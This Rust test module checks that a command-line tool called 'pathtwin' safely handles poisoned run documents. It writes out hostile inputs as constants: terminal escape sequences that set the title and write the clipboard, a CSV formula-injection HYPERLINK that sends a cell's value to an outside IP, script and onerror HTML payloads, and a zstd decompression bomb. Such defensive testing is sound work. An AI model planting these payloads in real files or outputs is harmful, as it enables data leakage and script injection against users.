//! Authors of hostile documents.

use std::{
    fs,
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
};

use serde_json::Value;

use crate::{
    case::{Case, Seen, Target},
    trouble::Trouble,
};

/// A small measured Run.
const RUN: &[u8] = include_bytes!("run.json");

/// Escape sequences: title, colour, clipboard, a single-byte sequence, and a forged line.
pub(super) const ESCAPES: &str =
    "evil\u{1b}]0;owned\u{7}\u{1b}[31m\u{1b}]52;c;b3duZWQ=\u{7}\u{9b}2J\r\npathtwin: forged";

/// A formula of a spreadsheet.
const FORMULA: &str = "=HYPERLINK(\"http://198.51.100.1/\"&A1,\"open\")";

/// HTML instead of text, after the end of a code span in Markdown.
const MARKUP: &str = "x`</code></script><script>alert(1)</script><img src=x onerror=alert(1)>";

pub(super) const CASES: &[Case] = &[
    Case {
        name: "escapes-in-documents",
        attack: "document author: escape sequences and newlines in every text of a run",
        bound: "no control character but line feed and tab in any text, CSV, explanation or comparison",
        run: escapes,
    },
    Case {
        name: "formulas-in-csv",
        attack: "document author: a formula in every text of a run",
        bound: "no cell begins with = + - @ but a number",
        run: formulas,
    },
    Case {
        name: "markup-in-pages",
        attack: "document author: scripts and tags in every text of a run",
        bound: "no script, tag or handler of his in a page, Markdown or JUnit",
        run: markup,
    },
    Case {
        name: "archive-bomb",
        attack: "document author: a history of 40 kB whose one document inflates to 1 GiB",
        bound: "256 MiB resident to show, list and export it",
        run: bomb,
    },
    Case {
        name: "mutated-documents",
        attack: "document author: 300 runs with bytes changed, cut off or repeated",
        bound: "an answer or an error within 10 s; no panic, no signal",
        run: mutated,
    },
];

/// A Run to modify.
pub(super) fn a_run() -> Result<Value, Trouble> {
    Ok(serde_json::from_slice(RUN)?)
}

/// Appends `text` to every free text of a document. A text is free if the document remains
/// readable; others are not changed.
fn poisoned(text: &str) -> Result<Value, Trouble> {
    let whole = a_run()?;
    let mut places = Vec::new();
    walk(&whole, &mut Vec::new(), &mut places);
    let mut poisoned = whole;
    for place in places {
        let mut tried = poisoned.clone();
        if let Some(Value::String(was)) = tried.pointer_mut(&place) {
            was.insert_str(0, text);
        }
        let bytes = serde_json::to_vec(&tried)?;
        if model::run::Run::parse(&bytes).is_ok() {
            poisoned = tried;
        }
    }
    Ok(poisoned)
}

/// JSON pointers (RFC 6901) of all texts.
fn walk(value: &Value, at: &mut Vec<String>, places: &mut Vec<String>) {
    match value {
        Value::String(_) => places.push(at.iter().map(|p| format!("/{p}")).collect()),
        Value::Array(list) => {
            for (index, value) in list.iter().enumerate() {
                at.push(index.to_string());
                walk(value, at, places);
                at.pop();
            }
        }
        Value::Object(map) => {
            for (key, value) in map {
                at.push(key.replace('~', "~0").replace('/', "~1"));
                walk(value, at, places);
                at.pop();
            }
        }
        _ => {}
    }
}

/// The program in a folder with a document `run.json`.
struct Reader<'a> {
    target: &'a Target,
    folder: tempfile::TempDir,
}

impl<'a> Reader<'a> {
    fn new(target: &'a Target, bytes: &[u8]) -> Result<Self, Trouble> {
        let folder = tempfile::tempdir()?;
        fs::write(folder.path().join("run.json"), bytes)?;
        Ok(Self { target, folder })
    }

    fn output(&self, arguments: &[&str]) -> Result<Output, Trouble> {
        Ok(Command::new(&self.target.program)
            .args(arguments)
            .env("PATHTWIN_STORE", self.folder.path().join("history.db"))
            .current_dir(self.folder.path())
            .stdin(Stdio::null())
            .output()?)
    }
}

/// Returns true if the program exited by itself.
fn ended(output: &Output) -> bool {
    // 101 is a panic, and none is a signal.
    output.status.code().is_some_and(|code| code != 101)
}

/// All commands that show a run.
const READINGS: &[&[&str]] = &[
    &["report", "run.json", "--format", "text"],
    &["report", "run.json", "--format", "markdown"],
    &["report", "run.json", "--format", "csv"],
    &["report", "run.json", "--format", "junit"],
    &["report", "run.json", "--format", "prometheus"],
    &["explain", "run.json"],
    &["explain", "run.json", "--output", "jsonl"],
    &["compare", "run.json", "run.json"],
    &["history", "import", "run.json"],
    &["history", "list"],
    &["history", "series", "--figure", "goodput_bps"],
    &["history", "trend"],
];

/// Forbidden characters: all control characters except line feed and tab (ECMA-48).
pub(super) fn controls(bytes: &[u8]) -> usize {
    let text = String::from_utf8_lossy(bytes);
    text.chars()
        .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
        .count()
}

fn escapes(target: &Target) -> Result<Seen, Trouble> {
    let run = poisoned(ESCAPES)?;
    let reader = Reader::new(target, &serde_json::to_vec(&run)?)?;
    let mut seen = Seen::default();
    let mut shown = 0;
    for reading in READINGS {
        let output = reader.output(reading)?;
        let what = reading.join(" ");
        // CSV lines may end with both, and a cell may contain several (RFC 4180).
        let is_csv = what.ends_with("csv");
        let text =
            String::from_utf8_lossy(&output.stdout).replace(if is_csv { "\r\n" } else { "" }, "");
        let (out, err) = (controls(text.as_bytes()), controls(&output.stderr));
        shown += usize::from(String::from_utf8_lossy(&output.stdout).contains("evil"));
        if out + err > 0 || !ended(&output) {
            seen.check(false, format!("{what}: {out} and {err} control characters"));
        }
        let forged = |bytes: &[u8]| {
            String::from_utf8_lossy(bytes)
                .lines()
                .any(|l| l.starts_with("pathtwin: forged"))
        };
        if (!is_csv && forged(&output.stdout)) || forged(&output.stderr) {
            seen.check(false, format!("{what}: a line is forged"));
        }
    }
    seen.check(
        shown > 0,
        format!("{shown} of {} readings show such texts", READINGS.len()),
    );
    Ok(seen)
}

/// The cells of a line of CSV (RFC 4180).
fn cells(text: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    for c in text.chars() {
        match c {
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            c => cell.push(c),
        }
    }
    cells
}

fn formulas(target: &Target) -> Result<Seen, Trouble> {
    let mut seen = Seen::default();
    let mut all = 0;
    for start in ["=", "+", "-", "@", "\t=", "\r="] {
        let run = poisoned(&format!("{start}{}", &FORMULA[1..]))?;
        let reader = Reader::new(target, &serde_json::to_vec(&run)?)?;
        let output = reader.output(&["report", "run.json", "--format", "csv"])?;
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        let cells = cells(&text);
        all += cells.len();
        let formula = |c: &&String| {
            c.starts_with(['=', '+', '-', '@', '\t', '\r']) && c.parse::<f64>().is_err()
        };
        let found = cells.iter().filter(formula).count();
        if found > 0 {
            seen.check(false, format!("{found} cells begin with {start:?}"));
        }
    }
    seen.check(all > 100, format!("{all} cells read"));
    Ok(seen)
}

fn markup(target: &Target) -> Result<Seen, Trouble> {
    let run = poisoned(MARKUP)?;
    let reader = Reader::new(target, &serde_json::to_vec(&run)?)?;
    let mut seen = Seen::default();
    for form in ["html", "markdown", "junit"] {
        let output = reader.output(&["report", "run.json", "--format", form])?;
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        let raw = ["<script>alert", "<img src=x"]
            .iter()
            .any(|m| active(&text, m, form));
        seen.check(!raw, format!("{form}: his markup is active: {raw}"));
        seen.check(output.status.success(), format!("{form} is made"));
    }
    Ok(seen)
}

/// Returns true if markup is active: in Markdown, text between backticks is not.
fn active(text: &str, markup: &str, form: &str) -> bool {
    if form != "markdown" {
        return text.contains(markup);
    }
    // Escaped characters are text (CommonMark 0.31, section 2.4).
    text.lines()
        .any(|line| outside_code(line).replace("\\<", "").contains(markup))
}

/// The parts of a Markdown line outside of code spans (CommonMark 0.31, section 6.1): a run of
/// backticks opens a span that the next run of equal length closes.
fn outside_code(line: &str) -> String {
    let mut outside = String::new();
    let mut rest = line;
    while let Some(at) = rest.find('`') {
        outside += &rest[..at];
        let fence: usize = rest[at..].chars().take_while(|c| *c == '`').count();
        let after = &rest[at + fence..];
        match close(after, fence) {
            Some(end) => rest = &after[end..],
            None => {
                outside += after;
                return outside;
            }
        }
    }
    outside + rest
}

/// End of a code span, after its closing backticks.
fn close(text: &str, fence: usize) -> Option<usize> {
    let mut at = 0;
    while let Some(found) = text[at..].find('`') {
        let start = at + found;
        let run = text[start..].chars().take_while(|c| *c == '`').count();
        at = start + run;
        if run == fence {
            return Some(at);
        }
    }
    None
}

fn bomb(target: &Target) -> Result<Seen, Trouble> {
    const SIZE: usize = 1 << 30;
    const MAX_KIB: f64 = 256.0 * 1024.0;
    let bytes = serde_json::to_vec(&a_run()?)?;
    let reader = Reader::new(target, &bytes)?;
    let imported = reader.output(&["history", "import", "run.json"])?;
    if !imported.status.success() {
        return Err(Trouble::Command {
            command: "history import",
            message: String::from_utf8_lossy(&imported.stderr).into_owned(),
        });
    }
    let file = reader.folder.path().join("history.db");
    let packed = blow_up(&file, SIZE)?;
    let mut seen = Seen::default();
    seen.note(format!("{packed} bytes in the history"));
    for reading in [
        &["history", "list"][..],
        &["history", "show", "0"],
        &["history", "export"],
    ] {
        let most = most_resident(&reader, &file, reading)?;
        seen.at_most(&format!("{}: KiB", reading.join(" ")), most, MAX_KIB);
    }
    Ok(seen)
}

/// Replaces the document of a history by one that inflates to `size` bytes; returns its compressed
/// size.
fn blow_up(file: &Path, size: usize) -> Result<usize, Trouble> {
    let history = rusqlite::Connection::open(file)?;
    let stored: Vec<u8> = history.query_row("SELECT data FROM body", [], |row| row.get(0))?;
    let body = zstd::decode_all(&stored[..])?;
    let mut packed = zstd::Encoder::new(Vec::new(), 6)?;
    std::io::Write::write_all(&mut packed, &body)?;
    let blanks = vec![b' '; 1 << 20];
    let mut left = size - body.len();
    while left > 0 {
        let n = left.min(blanks.len());
        std::io::Write::write_all(&mut packed, &blanks[..n])?;
        left -= n;
    }
    let packed = packed.finish()?;
    let bytes = packed.len();
    history.execute("UPDATE body SET data = ?1", [packed])?;
    history.execute("UPDATE document SET size = ?1", [size as i64])?;
    Ok(bytes)
}

/// Maximum resident memory of the program while reading, KiB.
fn most_resident(reader: &Reader<'_>, file: &PathBuf, reading: &[&str]) -> Result<f64, Trouble> {
    let mut child = Command::new(&reader.target.program)
        .args(reading)
        .env("PATHTWIN_STORE", file)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()?;
    let mut most: f64 = 0.0;
    while child.try_wait()?.is_none() {
        let status = fs::read_to_string(format!("/proc/{}/status", child.id()));
        let status = status.unwrap_or_default();
        let line = status.lines().find_map(|l| l.strip_prefix("VmHWM:"));
        let kib = line.and_then(|l| l.split_whitespace().next()?.parse().ok());
        most = most.max(kib.unwrap_or(0.0));
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    Ok(most)
}

fn mutated(target: &Target) -> Result<Seen, Trouble> {
    let mut random = stats::Random::new(11);
    let mut seen = Seen::default();
    let bytes = serde_json::to_vec(&a_run()?)?;
    let (mut bad, mut read) = (0, 0);
    for number in 0..300 {
        let mut changed = bytes.clone();
        for _ in 0..=random.next_u64() % 4 {
            let at = (random.next_u64() % changed.len() as u64) as usize;
            match random.next_u64() % 4 {
                0 => changed[at] = random.next_u64() as u8,
                1 => changed.truncate(at.max(1)),
                2 => {
                    let digits = b"99999999999999999999";
                    changed.splice(at..at, digits.iter().copied());
                }
                _ => {
                    let more = changed[at..(at + 40).min(changed.len())].to_vec();
                    changed.splice(at..at, more);
                }
            }
        }
        let reader = Reader::new(target, &changed)?;
        let reading = READINGS[number % 8];
        let output = reader.output(reading)?;
        read += usize::from(output.status.success());
        bad += usize::from(!ended(&output));
    }
    seen.note(format!("{read} of 300 read"));
    seen.at_most("panics and signals", bad as f64, 0.0);
    Ok(seen)
}
